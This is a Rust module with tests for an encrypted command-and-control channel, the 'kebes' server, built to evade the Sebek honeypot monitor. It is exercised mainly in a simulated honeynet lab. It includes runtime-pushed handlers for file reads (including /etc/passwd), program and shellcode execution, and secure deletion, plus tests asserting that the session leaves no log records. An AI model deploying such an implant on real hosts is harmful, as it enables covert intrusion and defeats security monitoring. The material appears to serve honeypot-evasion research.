//! The circumvention toolkit: an encrypted, message-based client/server
//! command protocol whose server operates the host exclusively through
//! unlogged primitives (mmap, recv, write, exec). The server starts as a
//! bare communication stub and is extended at runtime by the client pushing
//! handler code over the channel.

pub mod commands;
pub mod crypt;
pub mod entropy;
mod live;
pub mod value;

pub use commands::{
    cmd_execute, cmd_execute_binary, cmd_secure_delete, cmd_shellcode_exec, decode_command_message,
    decode_reply_message, encode_command_message, encode_reply_message, BinarySource, Command, CommandRegistry,
    HandlerImpl, Reply, ADDCOMMAND, SECURE_DELETE_PASSES,
};
pub use crypt::{parse_frame, validate_body, CryptSession, FrameReader, Role, MAX_PAD};
pub use entropy::{gather_entropy, gather_entropy_live, EntropyItem, EntropyPool, POOL_BYTES};
pub use live::{client_exchange, read_handshake, read_frame, serve_connection, tcp_handshake};
pub use value::Value;

use rand::{Rng, SeedableRng};
use rand_chacha::ChaCha12Rng;

use crate::lab::Lab;
use crate::simkernel::Host;
use crate::{Error, Result};

/// Server half of one connection. Completely isolated per session: own key
/// state, own registry, own reply-order randomness.
pub struct ServerSession {
    pub pid: u32,
    crypt: CryptSession,
    pub registry: CommandRegistry,
    reader: FrameReader,
    shuffle: ChaCha12Rng,
    handshake_done: bool,
    pub torn_down: bool,
}

impl ServerSession {
    fn from_pool(pid: u32, pool: &EntropyPool) -> ServerSession {
        let seed = pool.seed32();
        let mut shuffle_seed = seed;
        shuffle_seed[0] ^= 0x5a;
        ServerSession {
            pid,
            crypt: CryptSession::new(Role::Server, seed),
            registry: CommandRegistry::fresh(),
            reader: FrameReader::default(),
            shuffle: ChaCha12Rng::from_seed(shuffle_seed),
            handshake_done: false,
            torn_down: false,
        }
    }

    /// Accept in simulation mode: key material comes from the seeded-race
    /// entropy gatherer sweeping /var and /tmp.
    pub fn accept(host: &mut Host, pid: u32, scheduler_seed: u64) -> ServerSession {
        let (pool, _) = entropy::gather_entropy(host, scheduler_seed);
        Self::from_pool(pid, &pool)
    }

    /// Accept in live mode: the gatherer's walkers race under real OS
    /// scheduling.
    pub fn accept_live(host: &mut Host, pid: u32) -> ServerSession {
        let (pool, _) = entropy::gather_entropy_live(host);
        Self::from_pool(pid, &pool)
    }

    pub fn established(&self) -> bool {
        self.crypt.established()
    }

    /// Consume inbound transport bytes, producing the raw messages to send
    /// back (the handshake reply, then one sealed reply frame per command
    /// message). Channel-level failures tear the session down.
    pub fn feed(&mut self, host: &mut Host, bytes: &[u8]) -> Result<Vec<Vec<u8>>> {
        if self.torn_down {
            return Err(Error::Channel("session torn down".into()));
        }
        self.reader.push(bytes);
        let mut out = Vec::new();
        if !self.handshake_done {
            match self.reader.next_handshake() {
                Some(msg) => {
                    if let Err(e) = self.crypt.absorb_peer(&msg[4..]) {
                        self.torn_down = true;
                        return Err(e);
                    }
                    out.push(self.crypt.handshake_message());
                    self.handshake_done = true;
                }
                None => return Ok(out),
            }
        }
        while let Some(frame) = self.reader.next_frame() {
            let reply_frame = match self.handle_frame(host, &frame) {
                Ok(f) => f,
                Err(e) => {
                    self.torn_down = true;
                    return Err(e);
                }
            };
            out.push(reply_frame);
        }
        Ok(out)
    }

    fn handle_frame(&mut self, host: &mut Host, frame: &[u8]) -> Result<Vec<u8>> {
        let plaintext = self.crypt.open(frame)?;
        let cmds = decode_command_message(&plaintext)?;
        let mut replies: Vec<Reply> =
            cmds.iter().map(|c| commands::dispatch(host, self.pid, &mut self.registry, c)).collect();
        // Replies are matched by tag, not position; scramble the order so
        // nothing comes to depend on it.
        for i in (1..replies.len()).rev() {
            let j = self.shuffle.gen_range(0..=i);
            replies.swap(i, j);
        }
        self.crypt.seal(&encode_reply_message(&replies))
    }
}

/// Client half of one connection.
pub struct ClientSession {
    pub crypt: CryptSession,
    reader: FrameReader,
    handshake_done: bool,
    tag_counter: u64,
}

impl ClientSession {
    pub fn new(seed: u64) -> ClientSession {
        let mut seed32 = [0u8; 32];
        ChaCha12Rng::seed_from_u64(seed ^ 0xc11e).fill(&mut seed32);
        ClientSession {
            crypt: CryptSession::new(Role::Client, seed32),
            reader: FrameReader::default(),
            handshake_done: false,
            tag_counter: 0,
        }
    }

    pub fn hello(&self) -> Vec<u8> {
        self.crypt.handshake_message()
    }

    pub fn established(&self) -> bool {
        self.handshake_done && self.crypt.established()
    }

    pub fn next_tag(&mut self) -> Vec<u8> {
        self.tag_counter += 1;
        format!("t{}", self.tag_counter).into_bytes()
    }

    /// Build one sealed command message; returns the frame and the tags it
    /// carries.
    pub fn request_frame(&mut self, cmds: &[(String, Vec<Value>)]) -> Result<(Vec<u8>, Vec<Vec<u8>>)> {
        let with_tags: Vec<Command> = cmds
            .iter()
            .map(|(name, params)| Command { tag: self.next_tag(), name: name.clone(), params: params.clone() })
            .collect();
        let tags = with_tags.iter().map(|c| c.tag.clone()).collect();
        let frame = self.crypt.seal(&encode_command_message(&with_tags))?;
        Ok((frame, tags))
    }

    /// Consume inbound transport bytes; returns any decoded replies.
    pub fn feed(&mut self, bytes: &[u8]) -> Result<Vec<Reply>> {
        self.reader.push(bytes);
        let mut out = Vec::new();
        if !self.handshake_done {
            match self.reader.next_handshake() {
                Some(msg) => {
                    self.crypt.absorb_peer(&msg[4..])?;
                    self.handshake_done = true;
                }
                None => return Ok(out),
            }
        }
        while let Some(frame) = self.reader.next_frame() {
            let plaintext = self.crypt.open(&frame)?;
            out.extend(decode_reply_message(&plaintext)?);
        }
        Ok(out)
    }
}

// ---------------------------------------------------------------------------
// Simulation-mode driving helpers
// ---------------------------------------------------------------------------

/// Connect through the wall to a listening kebes server on the host and
/// complete the clear-text key exchange.
pub fn sim_connect(lab: &mut Lab, port: u16, client_seed: u64) -> Result<(u32, ClientSession)> {
    let conn = lab.client_connect(port);
    let mut client = ClientSession::new(client_seed);
    lab.run_ticks(2); // SYN reaches the host; the server session spins up
    lab.client_send(conn, &client.hello())?;
    for _ in 0..6 {
        lab.settle();
        let bytes = lab.client_take_inbox(conn);
        if !bytes.is_empty() {
            client.feed(&bytes)?;
        }
        if client.established() {
            return Ok((conn, client));
        }
    }
    Err(Error::Handshake("server did not answer the key exchange".into()))
}

/// Send one command batch and wait for every tagged reply.
pub fn sim_request(
    lab: &mut Lab,
    conn: u32,
    client: &mut ClientSession,
    cmds: &[(String, Vec<Value>)],
) -> Result<Vec<Reply>> {
    let (frame, tags) = client.request_frame(cmds)?;
    lab.client_send(conn, &frame)?;
    let mut replies = Vec::new();
    for _ in 0..12 {
        lab.settle();
        let bytes = lab.client_take_inbox(conn);
        if !bytes.is_empty() {
            replies.extend(client.feed(&bytes)?);
        }
        if replies.len() >= tags.len() {
            break;
        }
    }
    if replies.len() < tags.len() {
        return Err(Error::Channel(format!("expected {} replies, got {}", tags.len(), replies.len())));
    }
    Ok(replies)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lab::LabConfig;
    use crate::sebek::SebekConfig;
    use crate::simkernel::{ProgramStep, SimExecutable};
    use std::collections::BTreeMap;

    fn lab_with_listener(sebek: Option<SebekConfig>) -> (Lab, u32) {
        let mut lab = Lab::new(LabConfig { sebek, ..LabConfig::default() }).unwrap();
        let pid = lab.host.spawn(33, "/tmp/.payload-srv", BTreeMap::new());
        lab.host.pending_listeners.push((pid, 9000));
        (lab, pid)
    }

    #[test]
    fn handshake_over_the_simulated_wire_establishes_both_ends() {
        let (mut lab, _) = lab_with_listener(None);
        let (conn, client) = sim_connect(&mut lab, 9000, 42).unwrap();
        assert!(client.established());
        let server = lab.kebes_servers.values().next().unwrap();
        assert!(server.established());
        assert_eq!(
            client.crypt.shared_key().unwrap(),
            server.crypt.shared_key().unwrap(),
            "both ends derived the same key"
        );
        let _ = conn;
    }

    #[test]
    fn addcommand_then_invoke_works_and_unknown_names_error() {
        let (mut lab, _) = lab_with_listener(None);
        let (conn, mut client) = sim_connect(&mut lab, 9000, 42).unwrap();
        let r = sim_request(&mut lab, conn, &mut client, &[("LISTDIR".into(), vec![Value::text("/tmp")])])
            .unwrap();
        assert_eq!(r[0].status, "error");
        assert_eq!(r[0].result, Value::text("unknown-command"));

        let r = sim_request(
            &mut lab,
            conn,
            &mut client,
            &[(
                ADDCOMMAND.into(),
                vec![Value::text("LISTDIR"), Value::Bytes(HandlerImpl::ListDir.code())],
            )],
        )
        .unwrap();
        assert!(r[0].is_ok());
        let r = sim_request(&mut lab, conn, &mut client, &[("LISTDIR".into(), vec![Value::text("/tmp")])])
            .unwrap();
        assert!(r[0].is_ok());
    }

    #[test]
    fn batches_preserve_tag_multisets_across_shuffled_replies() {
        let (mut lab, _) = lab_with_listener(None);
        let (conn, mut client) = sim_connect(&mut lab, 9000, 7).unwrap();
        sim_request(
            &mut lab,
            conn,
            &mut client,
            &[(ADDCOMMAND.into(), vec![Value::text("SYSINFO"), Value::Bytes(HandlerImpl::SysInfo.code())])],
        )
        .unwrap();
        let batch: Vec<(String, Vec<Value>)> =
            (0..3).map(|_| ("SYSINFO".to_string(), Vec::new())).collect();
        let (frame, tags) = client.request_frame(&batch).unwrap();
        lab.client_send(conn, &frame).unwrap();
        let mut replies = Vec::new();
        for _ in 0..10 {
            lab.settle();
            let bytes = lab.client_take_inbox(conn);
            if !bytes.is_empty() {
                replies.extend(client.feed(&bytes).unwrap());
            }
            if replies.len() == 3 {
                break;
            }
        }
        let mut got: Vec<Vec<u8>> = replies.iter().map(|r| r.tag.clone()).collect();
        let mut want = tags;
        got.sort();
        want.sort();
        assert_eq!(got, want);
    }

    #[test]
    fn registry_isolation_between_sessions() {
        let (mut lab, _) = lab_with_listener(None);
        let (conn_a, mut a) = sim_connect(&mut lab, 9000, 1).unwrap();
        let (conn_b, mut b) = sim_connect(&mut lab, 9000, 2).unwrap();
        sim_request(
            &mut lab,
            conn_a,
            &mut a,
            &[(ADDCOMMAND.into(), vec![Value::text("SYSINFO"), Value::Bytes(HandlerImpl::SysInfo.code())])],
        )
        .unwrap();
        let ra = sim_request(&mut lab, conn_a, &mut a, &[("SYSINFO".into(), vec![])]).unwrap();
        assert!(ra[0].is_ok());
        let rb = sim_request(&mut lab, conn_b, &mut b, &[("SYSINFO".into(), vec![])]).unwrap();
        assert_eq!(rb[0].status, "error", "other session must not inherit the command");
    }

    #[test]
    fn whole_session_stays_invisible_to_the_monitor() {
        // Differential oracle: identical worlds, one with a session layered
        // on top; the collector log must not change.
        let run = |with_session: bool| -> (usize, Vec<u8>) {
            let (mut lab, _) = lab_with_listener(Some(SebekConfig::default_lab()));
            if with_session {
                let (conn, mut client) = sim_connect(&mut lab, 9000, 3).unwrap();
                for (name, handler) in [
                    ("LISTDIR", HandlerImpl::ListDir),
                    ("CREATEFILE", HandlerImpl::CreateFile),
                    ("READFILE", HandlerImpl::ReadFile),
                    ("SYSINFO", HandlerImpl::SysInfo),
                    ("SECUREDELETE", HandlerImpl::SecureDelete),
                ] {
                    sim_request(
                        &mut lab,
                        conn,
                        &mut client,
                        &[(ADDCOMMAND.into(), vec![Value::text(name), Value::Bytes(handler.code())])],
                    )
                    .unwrap();
                }
                for (name, params) in [
                    ("SYSINFO", vec![]),
                    ("LISTDIR", vec![Value::text("/etc")]),
                    ("CREATEFILE", vec![Value::text("/tmp/.s"), Value::bytes(b"SESSION-SECRET")]),
                    ("READFILE", vec![Value::text("/tmp/.s")]),
                    ("READFILE", vec![Value::text("/etc/passwd")]),
                    ("SECUREDELETE", vec![Value::text("/tmp/.s")]),
                ] {
                    let r =
                        sim_request(&mut lab, conn, &mut client, &[(name.to_string(), params)]).unwrap();
                    assert!(r[0].is_ok(), "{name} failed: {:?}", r[0]);
                }
            }
            lab.drain(64);
            (lab.collector.log.len(), lab.collector.data_concat())
        };
        let (without_count, without_data) = run(false);
        let (with_count, with_data) = run(true);
        assert_eq!(without_count, 0);
        assert_eq!(with_count, 0, "session leaked read() records");
        assert_eq!(without_data, with_data);
    }

    #[test]
    fn session_traffic_on_the_wire_is_ciphertext_plus_dh_only() {
        let (mut lab, _) = lab_with_listener(Some(SebekConfig::default_lab()));
        let (conn, mut client) = sim_connect(&mut lab, 9000, 5).unwrap();
        sim_request(
            &mut lab,
            conn,
            &mut client,
            &[(ADDCOMMAND.into(), vec![Value::text("CREATEFILE"), Value::Bytes(HandlerImpl::CreateFile.code())])],
        )
        .unwrap();
        let marker = b"CHANNEL-MARKER-9917";
        sim_request(
            &mut lab,
            conn,
            &mut client,
            &[("CREATEFILE".into(), vec![Value::text("/tmp/.m"), Value::bytes(marker)])],
        )
        .unwrap();
        let wall = lab.wall.as_ref().unwrap();
        for entry in &wall.capture {
            assert!(
                !crate::honeywall::contains(&entry.packet.payload, marker),
                "marker visible in captured traffic"
            );
            assert!(!crate::honeywall::contains(&entry.packet.payload, b"CREATEFILE"));
        }
        // The DH publics did cross in the clear.
        let publics = client.crypt.dh_public.to_bytes_be();
        assert!(wall
            .capture
            .iter()
            .any(|e| crate::honeywall::contains(&e.packet.payload, &publics)));
    }

    #[test]
    fn server_runs_programs_end_to_end_over_the_channel() {
        let (mut lab, _) = lab_with_listener(None);
        lab.host
            .fs
            .create(
                0,
                "/usr/local/bin/hello",
                crate::simkernel::FileNode::regular(
                    SimExecutable {
                        libraries: vec![],
                        program: vec![ProgramStep::WriteStdout { data: "hello from child".into() }],
                    }
                    .image(),
                ),
            )
            .unwrap();
        let (conn, mut client) = sim_connect(&mut lab, 9000, 9).unwrap();
        sim_request(
            &mut lab,
            conn,
            &mut client,
            &[(ADDCOMMAND.into(), vec![Value::text("EXECUTE"), Value::Bytes(HandlerImpl::Execute.code())])],
        )
        .unwrap();
        let r = sim_request(
            &mut lab,
            conn,
            &mut client,
            &[(
                "EXECUTE".into(),
                vec![Value::text("/usr/local/bin/hello"), Value::List(vec![]), Value::bytes(b"")],
            )],
        )
        .unwrap();
        assert!(r[0].is_ok());
        let triple = r[0].result.as_list().unwrap();
        assert_eq!(triple[1], Value::Int(0));
        assert_eq!(triple[2], Value::bytes(b"hello from child"));
    }
}
